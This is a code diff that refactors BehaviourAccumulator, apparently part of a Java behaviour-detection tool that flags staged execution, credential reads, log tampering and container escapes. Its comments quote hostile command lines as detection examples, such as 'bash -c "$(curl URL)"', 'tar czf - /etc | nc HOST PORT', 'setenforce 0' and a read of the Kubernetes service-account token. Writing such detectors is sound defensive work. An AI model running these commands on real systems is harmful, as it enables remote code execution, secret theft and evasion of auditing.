@@ -1449,14 +1449,14 @@ final class BehaviourAccumulator implements FeatureAccumulator {
     }
 
     /**
-     * @return true when the program given on its command line ({@code bash -c "$(curl URL)"}, {@code python3 -c ...})
-     *     starts with what it or its parent read from a pipe its family wrote network data into
+     * @param program the program given on its command line ({@link ExecRules#inlineProgram}), or null
+     * @return true when that program ({@code bash -c "$(curl URL)"}, {@code python3 -c ...}) starts with what it or its
+     *     parent read from a pipe its family wrote network data into
      */
-    private boolean runsFetchedText(int kind, List<String> argv) {
+    private boolean runsFetchedText(String program) {
         if (fetchedText == null) {
             return false;
         }
-        String program = ExecRules.inlineProgram(kind, argv);
         if (program == null) {
             return false;
         }
@@ -1511,12 +1511,12 @@ final class BehaviourAccumulator implements FeatureAccumulator {
      * @return what of a network read by it or by its parent before its fork the program it runs is or holds (a shell's
      *     or interpreter's {@code -c} program, or its whole argv when it has arguments): see
      *     {@link Indicators#programFromNetwork}; null when none
+     * @param inline the program given on its command line ({@link ExecRules#inlineProgram}), or null
      */
-    private String programFromNetwork(int kind, List<String> argv) {
+    private String programFromNetwork(String inline, List<String> argv) {
         if (networkReads == null) {
             return null;
         }
-        String inline = ExecRules.inlineProgram(kind, argv);
         String joined = argv.size() > 1 ? String.join(" ", argv) : null;
         for (int i = 0; i < NETWORK_READS; i++) {
             String read = networkReadPrinted[i] && networkReads[i] != null ? Arguments.decodeString(networkReads[i]) : networkReads[i];
@@ -1817,8 +1817,8 @@ final class BehaviourAccumulator implements FeatureAccumulator {
             }
             boolean packaged = underPackageTool;
             execIndicators(path, argv, kind);
-            handTool = (kind & (ExecRules.DOWNLOADER | ExecRules.SHELL)) != 0
-                    || (kind & ExecRules.INTERPRETER) != 0 && ExecRules.inlineProgram(kind, argv) != null;
+            String inline = ExecRules.inlineProgram(kind, argv); // bash -c PROGRAM, python3 -c PROGRAM
+            handTool = (kind & (ExecRules.DOWNLOADER | ExecRules.SHELL)) != 0 || (kind & ExecRules.INTERPRETER) != 0 && inline != null;
             if (Indicators.reachesForTheHost(exeBase, argv)) {
                 set(Feature.IND_SETID_ATTEMPT); // docker run -v /:/host, nsenter -t 1 -m: the host's root, from a container or a group
                 priority = EvidenceLog.HIGH;
@@ -1827,10 +1827,10 @@ final class BehaviourAccumulator implements FeatureAccumulator {
                 set(Feature.IND_LOG_TAMPER); // systemctl stop auditd, setenforce 0; not a package's maintainer script (prerm)
                 priority = EvidenceLog.HIGH;
             }
-            if (runsFetchedText(kind, argv) || scriptPath != null && fetchedInFamily(scriptPath)) {
+            if (runsFetchedText(inline) || scriptPath != null && fetchedInFamily(scriptPath)) {
                 set(Feature.IND_STAGED_EXEC); // bash -c "$(curl URL)", curl -o x.sh URL && sh x.sh: code from the network
                 priority = EvidenceLog.HIGH;
-            } else if ((kind & ExecRules.INTERPRETER) != 0 && Indicators.fetchesAndEvaluates(ExecRules.inlineProgram(kind, argv), argv)) {
+            } else if ((kind & ExecRules.INTERPRETER) != 0 && Indicators.fetchesAndEvaluates(inline, argv)) {
                 set(Feature.IND_STAGED_EXEC); // python3 -c "exec(urlopen(URL).read())": code from the network run in memory
                 priority = EvidenceLog.HIGH;
             } else if (runsFetchedCommand(argv)) {
@@ -1838,7 +1838,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
                 priority = EvidenceLog.HIGH;
                 log().add(EvidenceLog.HIGH, "its command line came in its family's download: " + cQuoted(String.join(" ", argv)));
             }
-            String fromNetwork = programFromNetwork(kind, argv);
+            String fromNetwork = programFromNetwork(inline, argv);
             if (fromNetwork != null) {
                 set(Feature.IND_STAGED_EXEC); // a web shell's sh -c id, a command channel's, an injected ;id
                 priority = EvidenceLog.HIGH;
@@ -1963,13 +1963,14 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         if (recon != 0 && !walkedInto(path)) { // an archiver walking /etc reads passwd, hosts, fstab... as files
             reconKinds |= recon;
         }
-        if (Indicators.workloadSecret(path) && !directory && (handTool || Indicators.fileReader(exeBase)) && !walkedInto(path)) {
+        boolean workloadSecret = Indicators.workloadSecret(path);
+        if (workloadSecret && !directory && (handTool || Indicators.fileReader(exeBase)) && !walkedInto(path)) {
             set(Feature.IND_CREDENTIAL_READ); // cat /var/run/secrets/kubernetes.io/serviceaccount/token; not the pod's client
             note(EvidenceLog.HIGH, e, e.arguments());
         }
         boolean secret = (bits & PathRules.SHADOW) != 0 || Indicators.credentialStore(path) || Indicators.privateKey(path)
                 || (bits & PathRules.PROC_OTHER) != 0 && path.endsWith("/environ") && !Indicators.Role.PROCESS_VIEWER.of(exeBase);
-        if ((secret || Indicators.workloadSecret(path)) && !directory && !readSecret) {
+        if ((secret || workloadSecret) && !directory && !readSecret) {
             readsSecrets(); // tar czf - /etc | nc HOST PORT: a backup's read, but its output must not go online
         }
         if (secret && !directory && !Indicators.Role.ACCOUNT.of(exeBase) && !Indicators.Role.SSH.of(exeBase) && !walkedInto(path)
